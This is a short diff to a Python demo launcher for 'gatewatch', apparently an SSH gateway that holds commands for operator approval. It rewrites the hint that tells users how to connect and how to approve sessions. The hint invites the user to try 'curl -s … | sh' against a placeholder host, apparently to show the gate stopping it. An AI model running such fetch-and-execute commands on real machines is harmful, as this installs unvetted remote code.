@@ -248,8 +248,10 @@ async def _run_tui(info: dict[str, Any], shutdown: _Shutdown) -> None:
             f"orders;\n"
             f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
             f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh\n"
-            f"      another terminal: . {info['dir']}/operator.env; gatewatch sessions; "
-            f"gatewatch approvals")
+            f"      operator {info['approver']['user']}, from another terminal: gatewatch "
+            f"approvals -c {info['config']} --token {info['approver']['token']}\n"
+            f"      (or . {info['dir']}/operator.env; then gatewatch sessions, approvals, "
+            f"kill, lockouts, tui)")
     if os.geteuid() != 0:
         hint += (f"\n      not root: the SSH target's shells run as you "
                  f"({info['ssh_direct']['runs_as']}) and can read this demo's files")
